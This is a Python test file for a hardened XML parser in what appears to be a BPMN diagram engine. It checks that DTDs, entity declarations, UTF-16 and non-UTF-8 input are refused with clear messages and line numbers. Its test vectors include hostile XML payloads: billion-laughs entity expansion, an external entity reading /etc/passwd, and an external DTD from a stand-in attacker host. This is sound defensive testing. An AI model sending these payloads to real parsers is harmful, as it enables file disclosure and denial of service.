"""The only XML parser: what it refuses, where it says the fault is, and that it never reads."""

from __future__ import annotations

import pytest

from engine import safe_xml

LIMIT = 100_000
BPMN = '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D"/>'
PASSWD = "file:///etc/passwd"

# Every way we know to smuggle a DTD in, with the line the refusal must name.
DTD_VECTORS = [
    pytest.param(
        '<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>\n'
        "<d>&b;</d>",
        2,
        id="billion-laughs",
    ),
    pytest.param(
        f'<?xml version="1.0"?>\n\n<!DOCTYPE d [<!ENTITY s SYSTEM "{PASSWD}">]>\n<d>&s;</d>',
        3,
        id="external-entity",
    ),
    pytest.param(
        '<!DOCTYPE d SYSTEM "http://attacker.example/evil.dtd">\n<d/>', 1, id="external-dtd"
    ),
    pytest.param('<?xml version="1.0"?>\n<!doctype d [\n]>\n<d/>', 2, id="lower-case"),
    pytest.param('<?xml version="1.0"?>\n<!  DOCTYPE d>\n<d/>', 2, id="spaced"),
    pytest.param('<?xml version="1.0"?>\n<!ENTITY x "y">\n<d/>', 2, id="bare-entity"),
]


def _refusal(content: bytes, **kwargs) -> safe_xml.XmlRefused:
    with pytest.raises(safe_xml.XmlRefused) as caught:
        safe_xml.parse(content, max_bytes=kwargs.pop("max_bytes", LIMIT), **kwargs)
    return caught.value


def test_a_plain_bpmn_file_parses():
    """A well-formed diagram comes back as its root element."""
    root = safe_xml.parse(BPMN.encode(), max_bytes=LIMIT)
    assert root.get("id") == "D"


@pytest.mark.parametrize(("text", "line"), DTD_VECTORS)
def test_any_doctype_or_entity_is_refused_with_its_line(text, line):
    """DTDs and entity declarations are refused before parsing, naming the line they are on."""
    err = _refusal(text.encode())
    assert err.line == line
    assert "declarations are not allowed" in err.message


def test_an_external_entity_never_reads_the_file():
    """The refusal of `file:///etc/passwd` carries nothing of the file."""
    err = _refusal(f'<!DOCTYPE d [<!ENTITY s SYSTEM "{PASSWD}">]><d>&s;</d>'.encode())
    assert "root:" not in err.message
    assert err.message.startswith("DOCTYPE declarations are not allowed")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_utf16_file_is_refused_so_no_doctype_can_hide_in_it(encoding):
    """UTF-16 (with or without a byte-order mark) is refused: the byte scan could miss a DTD."""
    text = f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY s SYSTEM "{PASSWD}">]>'
    err = _refusal((text + "<d>&s;</d>").encode(encoding))
    assert err.message == "the file is UTF-16 text; save it as UTF-8"
    assert err.line == 1


def test_a_declared_foreign_encoding_is_refused():
    """Only UTF-8 is accepted; a file declaring another encoding is told to re-save."""
    err = _refusal(b'<?xml version="1.0" encoding="ISO-8859-1"?>\n<d>\xe9</d>')
    assert err.message == "the file declares the encoding ISO-8859-1; save it as UTF-8"


def test_bytes_that_are_not_utf8_are_refused_with_their_line():
    """Latin-1 bytes in an undeclared file are located."""
    err = _refusal(b"<d>\n<e>caf\xe9</e>\n</d>")
    assert (err.message, err.line) == ("the file is not UTF-8 text; save it as UTF-8", 2)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(
            "<!DOCTYPE html>\n<html><body><p>Export failed<br></body></html>", id="doctype"
        ),
        pytest.param("<html>\n<head><title>Login</title>\n<body><p>Please log in", id="tag-soup"),
    ],
)
def test_html_is_called_html_not_a_doctype_or_xml_error(text):
    """An HTML page saved as a diagram is recognised as HTML, whatever its shape."""
    err = _refusal(text.encode(), expected="BPMN")
    assert (err.message, err.line) == ("this looks like HTML, not BPMN", 1)


@pytest.mark.parametrize(
    ("text", "message", "line"),
    [
        ("<d>\n  <e>\n</d>", "the tag <e> opened on line 2 is closed by </d>", 3),
        ("<d>\n<e/>", "the file ends before <d> (opened on line 1) is closed", 2),
        ("<d>\n<e>R&D</e></d>", "a plain & must be written `&amp;` (or use the word 'and')", 2),
        (
            "<d>\n<e>&nbsp;</e></d>",
            "`&nbsp;` is not an XML character reference (write `&amp;` for a plain &)",
            2,
        ),
        ("<d/>\n<e/>", "there is more after the closing root tag", 2),
        ("<d a=1/>", "an attribute value is not in quotes", 1),
        ("just some text", "this is not XML", 1),
    ],
)
def test_xml_errors_are_told_in_plain_words_with_their_line(text, message, line):
    """libxml2's messages are reworded, without its own `line, column` suffix."""
    err = _refusal(text.encode())
    assert (err.message, err.line) == (message, line)


def test_an_empty_file_is_called_empty():
    """A file of whitespace says it is empty."""
    assert _refusal(b"  \n").message == "the file is empty"


def test_a_file_over_the_limit_is_refused_before_parsing():
    """The size check comes first, and names both sizes."""
    err = _refusal(BPMN.encode(), max_bytes=10)
    assert err.message == f"the file is {len(BPMN):,} bytes; the limit is 10"


def test_a_utf8_byte_order_mark_is_accepted():
    """Notepad's UTF-8 BOM is harmless."""
    assert safe_xml.parse(b"\xef\xbb\xbf" + BPMN.encode(), max_bytes=LIMIT).get("id") == "D"
